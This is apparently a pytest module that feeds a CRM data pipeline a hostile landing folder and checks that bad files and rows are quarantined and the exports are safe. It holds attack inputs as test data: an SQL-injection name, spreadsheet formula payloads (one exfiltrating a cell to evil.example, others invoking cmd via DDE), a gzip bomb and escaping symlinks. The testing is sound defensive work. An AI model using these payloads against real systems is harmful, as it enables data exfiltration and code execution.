"""Landing data full of traps: the run succeeds, every bad file or row is quarantined with
its reason, every readable key is accounted for, and the exports are safe to open."""

from __future__ import annotations

import csv
import datetime as dt
import gzip
import os
from pathlib import Path

import duckdb
import polars as pl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from landing_keys import readable_keys

from crm_pipelines.run import run_nightly

SQL_NAME = "Robert'); DROP TABLE master.customer;--"
LONG_NAME = "Ž" * 10_000
CONTROL_NAME = "Jan\x07\x1b[31mNovák\x00"
FORMULAS = {  # source_id -> first name a spreadsheet would run
    "F1": '=HYPERLINK("http://evil.example/?d="&A1,"Klikni")',
    "F2": "+cmd|' /C calc'!A0",
    "F3": "@SUM(1+1)*cmd|' /C calc'!A0",
    "F4": "-2+3",
}
CUSTOMER_HEADER = (
    "source_system,source_id,updated_at,party_type,customer_type,status,first_name,last_name,"
    "organization_name,email,phone,country,consent_email\n"
)


def _csv_field(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def build_hostile_landing(root: Path) -> Path:
    for feed in ("customer", "person", "account", "address", "lead", "campaign"):
        (root / feed).mkdir(parents=True)
    control = CONTROL_NAME
    rows = [
        f"BSS,H1,2026-01-01T08:00:00,INDIVIDUAL,RESIDENTIAL,ACTIVE,{_csv_field(SQL_NAME)},Novák,,jan@example.cz,777123456,CZ,true",
        f"BSS,H2,2026-01-01T08:00:00,INDIVIDUAL,RESIDENTIAL,ACTIVE,Eva,{_csv_field(LONG_NAME)},,,,CZ,",
        f"BSS,H3,2026-01-01T08:00:00,INDIVIDUAL,RESIDENTIAL,ACTIVE,{_csv_field(control)},Dvořák,,,,CZ,",
        'BSS,H4,2026-01-01T08:00:00,ORGANIZATION,BUSINESS,ACTIVE,,,"Emoji 😀 ""quoted"" s.r.o.",,,CZ,',
        'BSS,H5,2026-01-01T08:00:00,INDIVIDUAL,RESIDENTIAL,ACTIVE,"Multi\nLine",Name,,,,CZ,',
        "BSS,H6,not-a-date,INDIVIDUAL,RESIDENTIAL,ACTIVE,Petr,Malý,,,,CZ,",
        "BSS,H7,2026-01-01T08:00:00,MARTIAN,RESIDENTIAL,ACTIVE,Petr,Malý,,,,CZ,",
        "BSS,H8,2026-01-01T08:00:00,INDIVIDUAL,RESIDENTIAL,ACTIVE,Olga,Malá,,=1+2@seznam.cz,,CZ,true",
        *[
            f"BSS,{key},2026-01-01T08:00:00,INDIVIDUAL,RESIDENTIAL,ACTIVE,{_csv_field(name)},"
            f"Formulová,,{key.lower()}@example.cz,,CZ,true"
            for key, name in FORMULAS.items()
        ],
    ]
    (root / "customer" / "good.csv").write_text(
        CUSTOMER_HEADER + "\n".join(rows) + "\n", encoding="utf-8"
    )
    (root / "customer" / "bom.csv").write_bytes(
        "\ufeff".encode()
        + (CUSTOMER_HEADER + "LEGACY_CRM,B1,2026-02-01,FO,RES,A,Jiří,Černý,,,,CZ,ano\n").encode()
    )
    (root / "customer" / "empty.csv").write_bytes(b"")
    (root / "customer" / "header_only.csv").write_text(CUSTOMER_HEADER, encoding="utf-8")
    (root / "customer" / "latin1.csv").write_bytes(
        (
            CUSTOMER_HEADER
            + "BSS,L1,2026-01-01,INDIVIDUAL,RESIDENTIAL,ACTIVE,Jiří,Šťastný,,,,CZ,\n"
        ).encode("latin-1", "replace")
        + "Žluťoučký".encode("cp1250")
    )
    (root / "customer" / "not_csv.csv.gz").write_bytes(b"this is not gzip at all")
    # A required column (country) missing from a whole file: every row rejected, none lost.
    (root / "customer" / "no_country.csv").write_text(
        "source_system,source_id,updated_at,party_type,customer_type,status,first_name,last_name\n"
        "ESHOP,E1,2026-01-01,INDIVIDUAL,RESIDENTIAL,ACTIVE,Jana,Nová\n",
        encoding="utf-8",
    )
    good = pl.DataFrame(
        {
            "source_system": ["BSS"],
            "source_id": ["P1"],
            "updated_at": ["2026-01-01"],
            "customer_source_id": ["H1"],
            "role_type": ["OWNER"],
            "first_name": ["Jan"],
            "last_name": [LONG_NAME],
        }
    )
    good.write_parquet(root / "person" / "persons.parquet")
    data = (root / "person" / "persons.parquet").read_bytes()
    (root / "person" / "truncated.parquet").write_bytes(data[: len(data) // 2])
    (root / "account" / "a.csv").write_text(
        "source_system,source_id,updated_at,customer_source_id,account_type,status,currency\n"
        "BSS,A1,2026-01-01,H1,BILLING,ACTIVE,CZK\nBSS,A2,2026-01-01,H6,BILLING,ACTIVE,CZK\n",
        encoding="utf-8",
    )
    (root / "address" / "a.csv").write_text(
        "source_system,source_id,updated_at,owner_kind,owner_source_id,role_type,address_line,country\n"
        'BSS,AD1,2026-01-01,ACCOUNT,A2,BILLING,"Dlouhá 12, 110 00 Praha 1",CZ\n'
        'BSS,AD2,2026-01-01,CUSTOMER,H1,CORRESPONDENCE,"Vinohradská 1234/5a, 120 00 Praha 2",CZ\n',
        encoding="utf-8",
    )
    (root / "campaign" / "c.csv").write_text(
        "source_system,source_id,updated_at,campaign_code,name,status,channel,start_date,end_date\n"
        "MARKETING,K1,2026-01-01,WINTER,Winter,ACTIVE,EMAIL,2026-01-01,2026-12-31\n",
        encoding="utf-8",
    )
    _add_bad_input_files(root)
    return root


def _add_bad_input_files(root: Path) -> None:
    """One file per way a file can go wrong; each is quarantined with its reason."""
    header = "source_system,source_id,updated_at,party_type,customer_type,status,first_name,last_name,country"
    (root / "customer" / "email_twice.csv").write_text(
        header
        + ",email,EMAIL\nBSS,D1,2026-01-01,INDIVIDUAL,RESIDENTIAL,ACTIVE,Jan,Dup,CZ,a@b.cz,c@d.cz\n",
        encoding="utf-8",
    )
    # 60 MB of line breaks from 60 kB of gzip: past max_gzip_ratio, stopped while streaming
    (root / "customer" / "bomb.csv.gz").write_bytes(
        gzip.compress((header + "\n").encode() + b"\n" * 60_000_000, compresslevel=9)
    )
    outside = root.parent / "outside"
    outside.mkdir()
    (outside / "secret.csv").write_text(
        header + "\nBSS,S1,2026-01-01,INDIVIDUAL,RESIDENTIAL,ACTIVE,Tajný,Soubor,CZ\n",
        encoding="utf-8",
    )
    os.symlink(outside / "secret.csv", root / "customer" / "outside.csv")
    os.symlink(outside, root / "customer" / "outside_folder")
    os.symlink(root / "customer" / "loop_b.csv", root / "customer" / "loop_a.csv")
    os.symlink(root / "customer" / "loop_a.csv", root / "customer" / "loop_b.csv")
    days = pa.array([20_000, 2**31 - 1], pa.int32()).cast(pa.date32())
    person = {
        "source_system": ["BSS", "BSS"],
        "source_id": ["P2", "P3"],
        "updated_at": ["2026-01-01", "2026-01-01"],
        "customer_source_id": ["H1", "H1"],
        "role_type": ["BILLING_CONTACT", "BILLING_CONTACT"],
        "last_name": ["Parketová", "Parketová"],
    }
    # an out-of-range date in one row; an unknown list and struct column are ignored
    pq.write_table(
        pa.table(
            {
                **person,
                "first_name": ["Jana\x00", "Eva"],
                "birth_date": days,
                "tags": [["a", "b"], []],
                "extra": [{"k": 1}, {"k": 2}],
            }
        ),
        root / "person" / "typed.parquet",
    )
    (root / "steward_decision").mkdir()
    (root / "steward_decision" / "d.csv").write_text(
        "source_system,source_id,updated_at,entity,left_source_system,left_source_id,"
        "right_source_system,right_source_id,decision\n"
        "MARKETING,SD1,2026-01-02,customer,BSS,H1,BSS, H1 ,NO_MATCH\n",
        encoding="utf-8",
    )
    # a contract column that is a list: the file is quarantined
    pq.write_table(
        pa.table({**person, "source_id": ["P4", "P5"], "first_name": [["Jana"], ["Eva"]]}),
        root / "person" / "nested.parquet",
    )


QUARANTINED_FILES = {
    "customer/latin1.csv": "invalid utf-8",
    "customer/not_csv.csv.gz": "BadGzipFile",
    "person/truncated.parquet": "parquet",
    "customer/email_twice.csv": "header collision: columns 'email', 'EMAIL' all map to contract column email",
    "customer/bomb.csv.gz": "gzip decompresses past its cap",
    "customer/outside.csv": "symlink leads outside the landing folder; not followed",
    "customer/outside_folder": "symlink leads outside the landing folder; not followed",
    "customer/loop_a.csv": "symlink loop; not followed",
    "customer/loop_b.csv": "symlink loop; not followed",
    "person/nested.parquet": "nested contract column first_name (List(String))",
}


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory, dagster_home: Path):
    landing = build_hostile_landing(tmp_path_factory.mktemp("hostile") / "landing")
    warehouse = tmp_path_factory.mktemp("hostile_wh") / "warehouse.duckdb"
    outcome = run_nightly(landing, warehouse, dt.date(2026, 6, 1))
    assert outcome.success, outcome.failure
    return landing, warehouse


def test_unreadable_files_are_quarantined_and_the_run_goes_on(hostile_run) -> None:
    _, warehouse = hostile_run
    with duckdb.connect(str(warehouse), read_only=True) as con:
        files = {
            r[0]
            for r in con.sql(
                "SELECT file FROM quality.rejected WHERE rule_id = 'FILE_UNREADABLE'"
            ).fetchall()
        }
        loads = dict(con.sql("SELECT file, status FROM quality.file_load").fetchall())
        reasons = dict(
            con.sql(
                "SELECT file, message FROM quality.rejected WHERE rule_id = 'FILE_UNREADABLE'"
            ).fetchall()
        )
    assert files == set(QUARANTINED_FILES)
    for file, reason in QUARANTINED_FILES.items():
        assert reason in reasons[file], (file, reasons[file])
    assert loads["customer/empty.csv"] == "EMPTY" and loads["customer/header_only.csv"] == "EMPTY"
    assert loads["person/typed.parquet"] == "READ"


def test_nothing_is_lost(hostile_run) -> None:
    landing, warehouse = hostile_run
    with duckdb.connect(str(warehouse), read_only=True) as con:
        quarantined = {
            r[0]
            for r in con.sql(
                "SELECT file FROM quality.rejected WHERE rule_id = 'FILE_UNREADABLE'"
            ).fetchall()
        }
    keys = readable_keys(landing, skip=quarantined)
    with duckdb.connect(str(warehouse), read_only=True) as con:
        accounted = con.sql(
            "SELECT CASE entity WHEN 'person_holder' THEN 'customer' ELSE entity END AS feed, source_system, source_id FROM master.xref "
            "UNION SELECT feed, source_system, source_id FROM quality.rejected"
        ).pl()
    lost = keys.join(accounted, on=["feed", "source_system", "source_id"], how="anti")
    assert lost.height == 0, lost


def test_hostile_text_is_data_stored_as_it_came(hostile_run) -> None:
    _, warehouse = hostile_run
    with duckdb.connect(str(warehouse), read_only=True) as con:
        names = {r[0] for r in con.sql("SELECT first_name FROM master.customer").fetchall()}
        last = {r[0] for r in con.sql("SELECT last_name FROM master.customer").fetchall()}
        reasons = dict(
            con.sql(
                "SELECT source_id, rule_id FROM quality.rejected WHERE feed = 'customer' AND source_id IS NOT NULL"
            ).fetchall()
        )
        line_of_h7 = con.sql("SELECT line FROM quality.rejected WHERE source_id = 'H7'").fetchall()[
            0
        ][0]
        why_e1 = con.sql(
            "SELECT message FROM quality.rejected WHERE source_id = 'E1' AND column_name = 'country'"
        ).fetchall()
    assert SQL_NAME in names and "Jan[31mNovák" in names and "Multi Line" in names
    assert reasons["H6"] == "INVALID_TIMESTAMP" and reasons["H7"] == "UNKNOWN_CODE"
    assert reasons["E1"] == "REQUIRED_FIELD"
    assert why_e1 == [("required column country is missing from file customer/no_country.csv",)]
    assert line_of_h7 == 9  # the quoted two-line record H5 pushes later records down one line
    assert LONG_NAME not in last


def test_overlong_text_is_left_out_with_a_finding(hostile_run) -> None:
    _, warehouse = hostile_run
    with duckdb.connect(str(warehouse), read_only=True) as con:
        finding = con.sql(
            "SELECT message FROM quality.finding WHERE source_id = 'H2' AND rule_id = 'TEXT_TOO_LONG'"
        ).fetchall()
        rejected = con.sql(
            "SELECT rule_id, message FROM quality.rejected WHERE source_id = 'H2'"
        ).fetchall()
    assert finding == [(f"last_name '{'Ž' * 80}…' is longer than max_length 1000; left out",)]
    # last_name is required for an individual: left out, the row has none
    assert rejected == [
        (
            "REQUIRED_FIELD",
            "last_name is required for party_type INDIVIDUAL but its value was left out "
            "(too long, or nothing but control characters)",
        )
    ]


def test_control_characters_never_reach_the_master_or_the_exports(hostile_run) -> None:
    landing, warehouse = hostile_run
    with duckdb.connect(str(warehouse), read_only=True) as con:
        dirty = con.sql(
            "SELECT count(*) FROM (SELECT first_name || last_name AS t FROM master.person "
            "UNION ALL SELECT first_name || last_name FROM master.customer) "
            "WHERE regexp_matches(t, '[\\x00-\\x1f\\x7f-\\x9f]')"
        ).fetchall()[0][0]
        findings = dict(
            con.sql(
                "SELECT source_id, message FROM quality.finding WHERE rule_id = 'TEXT_CONTROL_CHARACTERS'"
            ).fetchall()
        )
        jana = con.sql(
            "SELECT first_name FROM master.person WHERE first_name LIKE 'Jana%'"
        ).fetchall()
    assert dirty == 0
    assert {"H3", "H5", "P2"} <= set(findings)
    assert "held control characters; they were removed" in findings["P2"]
    assert ("Jana",) in jana
    for path in (warehouse.parent / "exports").glob("*.csv"):
        assert not any(ch in path.read_text(encoding="utf-8") for ch in "\x00\x07\x1b")


def test_an_out_of_range_parquet_date_is_a_finding_on_its_row(hostile_run) -> None:
    _, warehouse = hostile_run
    with duckdb.connect(str(warehouse), read_only=True) as con:
        finding = con.sql(
            "SELECT source_id, line, rule_id, message FROM quality.finding "
            "WHERE file = 'person/typed.parquet' AND column_name = 'birth_date'"
        ).fetchall()
        kept = {r[0] for r in con.sql("SELECT source_id FROM master.xref").fetchall()}
    assert finding == [
        (
            "P3",
            2,
            "UNPARSEABLE_VALUE",
            "birth_date 'out-of-range date (day 2147483647 from 1970-01-01)' is not a date (YYYY-MM-DD)",
        )
    ]
    assert {"P2", "P3"} <= kept


def _export_cells(warehouse: Path) -> dict[str, dict[str, str]]:
    """Raw CSV text per target contact, as a spreadsheet would get it."""
    rows = {}
    for path in (warehouse.parent / "exports").glob("*.csv"):
        text = path.read_text(encoding="utf-8")
        with open(path, encoding="utf-8", newline="") as handle:
            for row in csv.DictReader(handle):
                rows[row["contact"]] = {**row, "__text": text}
    return rows


def test_formula_cells_are_neutralised_in_the_exports(hostile_run) -> None:
    _, warehouse = hostile_run
    rows = _export_cells(warehouse)
    for key, formula in FORMULAS.items():
        row = rows[f"{key.lower()}@example.cz"]
        assert row["salutation_name"].startswith("'" + formula), row
        quoted = '"' + ("'" + row["salutation_name"][1:]).replace('"', '""') + '"'
        assert quoted in row["__text"]
    for row in rows.values():
        for name, cell in row.items():
            if name != "__text":
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)


def test_an_email_that_is_a_formula_is_invalid(hostile_run) -> None:
    _, warehouse = hostile_run
    with duckdb.connect(str(warehouse), read_only=True) as con:
        finding = con.sql(
            "SELECT rule_id FROM quality.finding WHERE source_id = 'H8' AND column_name = 'email'"
        ).fetchall()
        emails = {r[0] for r in con.sql("SELECT email FROM master.customer").fetchall()}
    assert finding == [("INVALID_EMAIL",)]
    assert "=1+2@seznam.cz" not in emails


def test_a_decision_pairing_a_record_with_itself_is_rejected_and_the_run_goes_on(
    hostile_run,
) -> None:
    _, warehouse = hostile_run
    with duckdb.connect(str(warehouse), read_only=True) as con:
        rejected = con.sql(
            "SELECT rule_id, message FROM quality.rejected WHERE feed = 'steward_decision'"
        ).fetchall()
        h1 = con.sql("SELECT count(*) FROM master.xref WHERE source_id = 'H1'").fetchall()
    assert rejected == [("SELF_PAIRED_DECISION", "decision pairs BSS/H1 with itself; rejected")]
    assert h1[0][0] >= 1
